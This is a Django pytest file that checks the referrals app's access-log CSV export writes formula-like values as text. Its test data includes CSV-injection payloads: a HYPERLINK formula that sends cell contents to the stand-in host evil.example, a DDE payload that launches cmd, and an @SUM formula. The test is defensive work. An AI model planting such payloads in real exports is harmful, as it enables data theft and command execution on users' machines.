"""The access-log CSV writes formula-like cells as text (issue 13, item 5)."""

import csv

import pytest
from django.urls import reverse

from referrals.models import AccessLog
from tests.otp import login_verified

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_a_formula_like_username_is_written_as_text(world, client):
    AccessLog.objects.create(
        user=None,
        username=FORMULA,
        client=world.client,
        purpose="-2+3+cmd|' /C calc'!A0",
        fields=[],
        basis="@SUM(1)",
    )
    login_verified(client, world.coordinator)

    response = client.get(reverse("referrals:access_log") + "?format=csv")

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    [row] = [r for r in csv.reader(text.splitlines()) if FORMULA in "".join(r)]
    assert "'" + FORMULA in row
    assert "'-2+3+cmd|' /C calc'!A0" in row
    assert "'@SUM(1)" in row
